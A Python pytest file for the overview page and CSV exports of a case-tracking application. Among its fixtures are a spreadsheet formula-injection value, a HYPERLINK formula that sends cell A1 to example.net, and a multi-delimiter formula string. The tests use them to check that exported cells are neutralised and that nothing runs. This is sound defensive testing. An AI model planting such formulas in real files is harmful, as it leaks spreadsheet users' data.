"""The overview: what stands in it, that each number and the list it leads to agree, and its tables as files."""

from __future__ import annotations

import codecs
import csv
import html
import io
import re
from collections.abc import Callable
from datetime import timedelta
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import event

from caseproof.config.policy import BUILT_IN
from caseproof.domain.job_failure.kinds import Kind
from caseproof.procedure.core.handling import Handle, Wish, handle
from caseproof.procedure.views.overview import overview

TABLES = ("open", "times", "holders", "causes", "retailers")
FORMULA = '=HYPERLINK("https://example.net/?"&A1;"look")'


def read(page: str) -> str:
    return " ".join(html.unescape(re.sub(r"<[^>]+>", " ", page)).split())


def links(page: str) -> dict[str, str]:
    """Every link to a list of cases, with its text."""
    found = re.findall(r'<a href="(/cases\?[^"]*)">(.*?)</a>', page)
    return {html.unescape(address): read(text) for address, text in found}


def as_rows(client: TestClient, table: str, after: str = "") -> list[list[str]]:
    """The rows of a table's file, the header first."""
    answer = client.get(f"/overview/{table}.csv{after}")
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.headers["Content-Disposition"] == f'attachment; filename="caseproof-{table}.csv"'
    assert answer.content.startswith(codecs.BOM_UTF8)
    return list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))


@pytest.fixture(scope="module")
def some(
    tmp_path_factory: pytest.TempPathFactory, fresh_home: Any, make_world_at: Callable[..., Any],
    make_client: Callable[..., TestClient],
) -> Any:  # fmt: skip
    """An installation with cases of several ages, states, causes, retailers and holders, which tests only look at."""
    import shutil

    world = make_world_at(shutil.copytree(fresh_home, tmp_path_factory.mktemp("overview") / "home"))
    world.waiting("offers/old", retailer="Shop B & Sons", cause="feed")
    world.now += timedelta(days=20)
    again = world.closed("offers/again", retailer="Shop B & Sons")
    world.record(again, Kind.REOPENED, why="It failed again.")
    world.now += timedelta(days=11)
    world.opened("offers/new", retailer="", cause="feed")
    world.opened("offers/formula", retailer=FORMULA)
    for who, ref in (
        ("Team Lead", world.waiting("offers/held", retailer="Shöp  gap")),
        ("Somebody Else", world.verified("offers/other", retailer="a;=1+1,+2\t@x|-3")),
    ):
        handle(world.services.store, world.services.ledger.clock, Wish(Handle.CLAIM, (ref,)), who)
    world.closed("offers/done")
    world.client = make_client(world)
    yield world
    world.services.store.close()


# -- what is open -----------------------------------------------------------------------------------------------------


def test_each_number_leads_to_a_list_of_so_many_cases(some: Any) -> None:
    page = some.client.get("/overview").text
    counted = {address: text for address, text in links(page).items() if text.isdecimal()}
    assert {re.sub(r"=[^&]*", "", address).partition("?")[2] for address in counted} >= {
        "waits", "waits&state", "waits&state&age", "waits&person", "waits&state&person", "waits&cause",
        "waits&cause&age", "waits&cause&reopened", "waits&retailer", "waits&retailer&age", "waits&reopened",
    }  # fmt: skip
    assert not any(text == "0" for text in links(page).values()), "nothing leads to an empty list"
    assert "state=paused" not in page
    for address, number in counted.items():
        shown = some.client.get(address).text
        assert f'class="count">{number}</span></h1>' in shown, address
        assert len(re.findall(r'class="ref"', shown)) == int(number), address
    tiles = read(page.partition('<dl class="tiles">')[2].partition("</dl>")[0])
    assert tiles == "open 6 of these reopened 1 closed in 30 days 1 reopenings in 30 days 1"


def test_open_cases_stand_by_state_and_age_and_each_stands_once(some: Any) -> None:
    header, *rows = as_rows(some.client, "open")
    assert header == ["State", "Under a day", "1 to 7 days", "7 to 30 days", "Over 30 days", "All"]
    found = {row[0]: list(map(int, row[1:])) for row in rows}
    assert found["opened"] == [2, 0, 1, 0, 3], "the reopened one is as old as its first opening"
    assert found["waiting"] == [1, 0, 0, 1, 2]
    assert found["verified"] == [1, 0, 0, 0, 1]
    assert sum(counts[-1] for counts in found.values()) == 6


def test_whoever_is_on_the_team_stands_there_and_so_does_what_nobody_has(some: Any) -> None:
    header, *rows = as_rows(some.client, "holders")
    assert header == ["Who", "opened", "waiting", "verified", "All"]
    assert rows == [
        ["operator", "0", "0", "0", "0"], ["team lead", "0", "1", "0", "1"], ["somebody else", "0", "0", "1", "1"],
        ["nobody", "3", "1", "0", "4"],
    ]  # fmt: skip


def test_what_cannot_be_looked_for_has_its_number_and_no_link(some: Any) -> None:
    """Nobody knows the retailer, or the name has a gap that an address does not keep."""
    page = some.client.get("/overview").text
    for name in ("not known", "Shöp  gap"):
        assert re.search(rf'<bdi>{name}</bdi></th><td class="number">1<svg', page), name
    assert as_rows(some.client, "retailers")[1][:4] == ["Shop B & Sons", "2", "1", "1"]
    assert ["", "1", "0", "0"] in [row[:4] for row in as_rows(some.client, "retailers")]


def test_a_long_table_shows_its_first_rows_and_the_file_has_all_for_as_many_questions_to_the_store(
    world: Any, client: TestClient
) -> None:
    asked: list[str] = []
    client.get("/overview")
    engine = world.services.store._opened()
    event.listen(engine, "before_cursor_execute", lambda *said: asked.append(said[2]))
    client.get("/overview")
    few = len(asked)
    for number in range(25):
        world.opened(f"offers/{number}", retailer=f"Shop {number}")
    asked.clear()
    page = client.get("/overview").text
    assert len(asked) == few, "no case is read for the page"
    assert page.count("retailer=Shop+") == 2 * 20, "the name and the number"
    assert "5 more with fewer cases stand in the table as CSV" in read(page)
    assert len(as_rows(client, "retailers")) == 26
    shown = overview(world.services.ledger, world.services.policy, list, 30).table("retailers")
    linked = [any(cell.of for cell in row) for row in shown.rows] if shown else []
    assert linked == [True] * 20 + [False] * 5, "no address is put together that nobody sees"


def test_a_policy_that_changes_is_the_one_that_times_are_held_against_at_once(world: Any, client: TestClient) -> None:
    world.record(world.waiting(), Kind.QUESTION_ASKED, number=1, form="retailers-word", flow_run="f")
    until = re.compile(r"until</span> <time datetime=.(\S+?)T")
    before = until.search(client.get("/?waits=retailer").text)
    assert as_rows(client, "times")[1][:2] == ["contain", "3600"]
    text = re.sub(r"contain_hours: \S+", "contain_hours: 7", BUILT_IN.read_text())
    (world.home / "policy.yaml").write_text(re.sub(r"answer_within_days: \S+", "answer_within_days: 8", text))
    assert as_rows(client, "times")[1][:2] == ["contain", str(7 * 3600)]
    after = until.search(client.get("/?waits=retailer").text)
    assert before
    assert after
    assert before[1] < after[1]


def test_an_empty_installation_has_an_overview(client: TestClient) -> None:
    page = read(client.get("/overview").text)
    assert "No case is open." in page
    assert "to close the case, from the first opening to the closing that held 14 d 0 none none 0 0 0 none" in page
    assert [len(as_rows(client, table)) for table in TABLES] == [9, 5, 4, 1, 1]


# -- how long it took -------------------------------------------------------------------------------------------------


def test_the_times_of_the_days_that_are_asked_for_stand_against_the_targets(some: Any) -> None:
    """In this installation a minute passes with each step: stopped after 2, told after 8, and so on."""
    found = {row[0]: row[1:] for row in as_rows(some.client, "times")}
    assert found["Time"][:4] == ["Target (seconds)", "Cases", "Median (seconds)", "90th percentile (seconds)"]
    assert found["Time"][4:] == ["Missed", "Not yet", "Late already", "The longest waits (seconds)"]
    assert found["contain"][:3] == ["3600", "4", "120"]
    assert found["contain"][5] == "3", "two are not stopped yet, and the reopened one anew"
    assert found["close"][:2] == [str(14 * 86400), "1"], "the closing that did not hold is no closing"
    assert found["close"][5:7] == ["6", "1"], "one that is open is over its target already"
    ninety = {row[0]: row[1:] for row in as_rows(some.client, "times", "?days=90")}
    assert (ninety["contain"][1], found["contain"][1]) == ("5", "4")
    for days in ("x", "0", "31", "30", "99999999999999999999", "٣٠"):
        assert "How long it took, 30 days" in read(some.client.get(f"/overview?days={days}").text)
    assert "How long it took, 7 days" in read(some.client.get("/overview?days=7").text)


# -- files, and who may look ------------------------------------------------------------------------------------------


def test_no_spreadsheet_calculates_anything_from_a_name_whichever_delimiter_it_takes(some: Any) -> None:
    raw = some.client.get("/overview/retailers.csv").content.decode("utf-8-sig")
    assert "'=HYPERLINK" in raw
    for delimiter in ",;\t|":
        for line in csv.reader(io.StringIO(raw), delimiter=delimiter):
            for cell in line:
                assert not cell.strip("\"' \t").startswith(("=", "+", "-", "@")) or cell.lstrip('" ').startswith("'")


def test_there_are_the_tables_of_the_page_as_files_and_no_others(some: Any) -> None:
    page = some.client.get("/overview?days=7").text
    assert re.findall(r'href="/overview/(\w+)\.csv\?days=7"', page) == list(TABLES)
    for path in ("x.csv", ".csv", "open", "open.csv.csv", "open.xlsx", "open.csv/x"):
        assert some.client.get(f"/overview/{path}").status_code == 404, path
    for table in TABLES:
        assert some.client.post(f"/overview/{table}.csv").status_code == 405


def test_names_from_outside_are_only_text_and_nothing_runs(some: Any) -> None:
    answer = some.client.get("/overview")
    assert FORMULA not in answer.text
    assert FORMULA in html.unescape(answer.text)
    assert "<script" not in answer.text
    assert " style=" not in answer.text, "the policy of the page would drop it"
    assert "script-src" not in answer.headers["Content-Security-Policy"]


def test_bars_say_nothing_that_the_numbers_do_not(some: Any) -> None:
    page = some.client.get("/overview").text
    bars = re.findall(r"(<svg[^>]*>)<rect width=\"([\d.]+)\"", page)
    assert bars
    assert all('aria-hidden="true"' in bar and 0 <= float(width) <= 100 for bar, width in bars)
    assert all(re.search(r"\d", read(cell)) for cell in re.findall(r"<td[^>]*>(.*?)<svg", page))
    assert page.count("<caption") + page.count('role="region"') >= len(TABLES)
